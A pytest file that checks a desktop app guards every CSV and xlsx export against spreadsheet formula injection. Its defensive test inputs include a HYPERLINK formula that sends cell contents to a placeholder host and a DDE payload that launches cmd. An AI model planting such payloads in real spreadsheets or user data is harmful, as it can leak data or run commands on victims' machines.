"""No export lets a spreadsheet run the liaison's data as a formula: every text that starts with
= + - @ (or a tab or CR) is written as text in every CSV and xlsx the app writes (xlsx: a string
cell marked quotePrefix; CSV: a leading apostrophe). The test puts such text everywhere a user or
an imported file can put text, runs every export, reads every cell back, and checks that it walks
every writer in the code (a new export fails here until it is added)."""
from __future__ import annotations

import ast
import csv
import io
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from bizenv_desktop.core.cell_safety import FORMULA_STARTS, csv_text, formula_guarded
from bizenv_desktop.services import audit, dispatch, evidence, events, forms, plan_edit, supervision
from bizenv_desktop.services.excel import export
from bizenv_desktop.services.workspace import Workspace

ROOT = Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "bizenv_desktop"
MONTH = "2026-06"
# What an attacker (or an innocent cell pasted from elsewhere) puts into a ledger or a form.
PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1"]


def payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


@pytest.fixture
def loaded(workspace: Workspace, tmp_path: Path, ind: Any, div: Any) -> Workspace:
    """Formula-looking text in indicators, sub-tasks, the dispatch, supervised items, events,
    evidence file names and (through all of these) the audit trail."""
    law = div("法规处")

    def plan(w: Any) -> None:
        plan_edit.update_indicator(w, ind("(1)"), name=payload(0), criteria=payload(1), deadline=payload(2))
        plan_edit.add_subtask(w, ind("(3)"), payload(3), division_id=law, person=payload(4), note=payload(5))
    workspace.apply("公式样的文字", plan)
    workspace.apply("开始", lambda w: dispatch.start_month(w, MONTH))
    rows = [r for r in dispatch.load_month(workspace.db, MONTH).rows if r.division_id == law]
    workspace.apply("填写", lambda w: [dispatch.update_row(w, r.id, progress=payload(i), problems=payload(i + 1),
                                                          next_steps=payload(i + 2), person=payload(i + 3))
                                      for i, r in enumerate(rows)])
    workspace.apply("督办", lambda w: supervision.add_item(w, payload(0), source=payload(1), received_on="2026-06-01",
                                                          deadline="2026-06-30", lead=[law], progress=payload(2),
                                                          note=payload(3)))
    workspace.apply("事件", lambda w: events.add_event(w, "media", "2026-06-02", payload(4), level="省级", outlet=payload(5),
                                                        note=payload(0)))
    folder = tmp_path / "in"
    folder.mkdir()
    for i, name in enumerate(["=1+1.pdf", "@cmd.pdf", "-x.pdf"]):
        src = folder / name
        src.write_bytes(f"材料 {i}".encode() * 50)
        workspace.apply("佐证", lambda w, src=src, i=i: evidence.attach(w, workspace.path, src, "dispatch_row",
                                                                        rows[i].id))
    return workspace


def check_workbook(path: Path) -> int:
    """Every cell of every sheet: no formula, guarded text marked; returns the guarded cells."""
    guarded = 0
    book = openpyxl.load_workbook(path)  # not data_only: a formula would show as one
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if formula_guarded(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, \
                        f"{path.name} {sheet.title}!{cell.coordinate} {cell.value!r} is not marked as text"
                    guarded += 1
    return guarded


def check_csv(text: str, name: str) -> int:
    guarded = 0
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for field in row:
            assert not field.startswith(FORMULA_STARTS), f"{name}: {field!r} would be a formula in Excel"
            guarded += field.startswith("'") and field[1:].startswith(FORMULA_STARTS)
    return guarded


def test_every_export_writes_formula_looking_text_as_text(loaded: Workspace, tmp_path: Path) -> None:
    db = loaded.db
    out = tmp_path / "out"
    out.mkdir()
    seen: dict[str, int] = {}
    xlsx = {
        "export_indicators": lambda p: export.export_indicators(db, 2026, p),
        "export_dispatch": lambda p: export.export_dispatch(db, MONTH, p),
        "export_supervision": lambda p: export.export_supervision(db, p),
        "export_events": lambda p: export.export_events(db, 2026, p),
        "export_audit": lambda p: export.export_audit(db, p),
    }
    for name, run in xlsx.items():
        path = out / f"{name}.xlsx"
        run(path)
        seen[name] = check_workbook(path)
    made = forms.make_forms(db, MONTH, out / "forms", date(2026, 6, 20))
    seen["_write_forms"] = sum(check_workbook(p) for p in made)
    audit.export_csv(db, out / "audit.csv")
    seen["export_csv"] = check_csv((out / "audit.csv").read_text(encoding="utf-8-sig"), "audit.csv")
    evidence.export_package(db, loaded.path, 2026, out / "package.zip")
    with zipfile.ZipFile(out / "package.zip") as zf:
        index = zf.read("索引.csv").decode("utf-8")
        text = zf.read("索引.txt").decode("utf-8")
    seen["export_package"] = check_csv(index, "索引.csv")
    for line in text.splitlines():
        for field in line.lstrip("\ufeff").split("\t"):
            assert not field.startswith(FORMULA_STARTS[:4]), f"索引.txt: {field!r}"
    empty = [name for name, n in seen.items() if n == 0]
    assert not empty, f"these exports held none of the formula-looking text (the test proves nothing): {empty}"
    assert set(seen) == writers(), "an export writes CSV or xlsx that this test does not walk"


def writers() -> set[str]:
    """The functions in bizenv_desktop (not ui/) that write a CSV or an xlsx: csv.writer(...),
    a workbook's .save(...), or save_workbook(...) (whose callers are the exports)."""
    found: set[str] = set()
    for path in PACKAGE.rglob("*.py"):
        if "ui" in path.relative_to(PACKAGE).parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for fn in ast.walk(tree):
            if not isinstance(fn, ast.FunctionDef) or fn.name == "save_workbook":
                continue
            for node in ast.walk(fn):
                if isinstance(node, ast.Call):
                    f = node.func
                    name = f.attr if isinstance(f, ast.Attribute) else f.id if isinstance(f, ast.Name) else ""
                    owner = f.value.id if isinstance(f, ast.Attribute) and isinstance(f.value, ast.Name) else ""
                    if name == "save_workbook" or (name == "writer" and owner == "csv") or \
                            (name == "save" and owner not in ("painter", "canvas", "self", "word")):  # word: a .docx
                        found.add(fn.name)
    return found


def test_the_rule_itself() -> None:
    for text in PAYLOADS:
        assert formula_guarded(text) and csv_text(text) == "'" + text
    for text in ("一网通办", "(3) 落实", "2026-06", "", "— 7 —", "'quoted"):
        assert not formula_guarded(text) and csv_text(text) == text
    assert not formula_guarded(-5) and csv_text(-5) == "-5"  # a number is a number
    assert csv_text(None) == ""
